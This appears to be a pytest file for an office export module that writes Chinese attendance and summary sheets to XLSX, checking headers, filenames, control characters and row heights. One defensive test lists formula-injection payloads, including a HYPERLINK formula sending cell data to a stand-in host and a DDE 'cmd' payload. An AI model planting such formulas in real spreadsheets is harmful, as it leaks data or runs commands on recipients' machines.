import io

import openpyxl

from office.exports import Sheet, file_response, write_xlsx


def test_it_writes_each_sheet_with_its_header_and_rows():
    content = write_xlsx(
        [
            Sheet("考勤月报", ["工号", "姓名"], [["1101", "张三"], ["1102", "李四"]]),
            Sheet("汇总", ["项目", "数量"], iter([["旷工", 2]])),
        ]
    )
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["考勤月报", "汇总"]
    assert list(workbook["考勤月报"].values) == [
        ("工号", "姓名"),
        ("1101", "张三"),
        ("1102", "李四"),
    ]
    assert workbook["汇总"]["B2"].value == 2


def test_it_names_the_download_in_chinese():
    response = file_response(b"x", "周通报.xlsx")
    assert response["Content-Disposition"] == (
        "attachment; filename*=UTF-8''%E5%91%A8%E9%80%9A%E6%8A%A5.xlsx"
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&B2,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_looks_like_a_formula_is_written_as_quoted_text():
    content = write_xlsx([Sheet("表", ["=标题"], [[text, 3, -4.5] for text in FORMULAS])])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = sheet["A1"]
    assert (header.value, header.data_type, header.quotePrefix) == ("=标题", "s", True)
    for number, text in enumerate(FORMULAS, start=2):
        cell = sheet.cell(row=number, column=1)
        # A carriage return is stored as the spec's escape _x000D_, which Excel reads back as
        # "\r"; openpyxl leaves inline strings as stored.
        value = cell.value.replace("_x000D_", "\r")
        assert (value, cell.data_type, cell.quotePrefix) == (text, "s", True)
        # Numbers stay numbers, without the prefix.
        assert sheet.cell(row=number, column=2).data_type == "n"
        assert sheet.cell(row=number, column=3).value == -4.5
        assert not sheet.cell(row=number, column=3).quotePrefix


def test_plain_text_is_a_string_without_the_quote_prefix():
    content = write_xlsx([Sheet("表", ["姓名"], [["张三"], ["1102"]])])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet["A"][1:]] == [
        ("张三", "s", False),
        ("1102", "s", False),
    ]


def test_control_characters_are_cleaned_not_a_crash():
    content = write_xlsx([Sheet("表", ["说明"], [["第一行\x0b第二行\x01"]])])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == "第一行\n第二行"


def test_plain_text_is_appended_as_a_str_and_blank_as_no_cell():
    """The fast path of a 10,000-row sheet: openpyxl's one reused cell, not an object per value."""
    from openpyxl import Workbook

    from office.exports import sheet_row

    ws = Workbook(write_only=True).create_sheet()
    plain, blank, number, formula = sheet_row(ws, ["职工\x01一", "", 3, "=1+1"])
    assert (plain, blank, number) == ("职工一", None, 3)
    assert formula.value == "=1+1" and formula.data_type == "s" and formula.quotePrefix


def test_a_header_wrapped_to_its_width_gets_the_lines_it_needs():
    from office.exports import HEADER_LINE, Column

    headers = [
        Column("工号", width=6),
        Column("加班计入绩效（小时）", width=8),
    ]  # 20 units: 3 lines
    content = write_xlsx([Sheet("表", headers, [["1101", 3]]), Sheet("短", headers[:1], [])])
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook["表"].row_dimensions[1].height == 3 * HEADER_LINE
    assert workbook["表"].row_dimensions[2].height is None  # the rows keep their height
    assert workbook["短"].row_dimensions[1].height is None  # a header that fits: one line
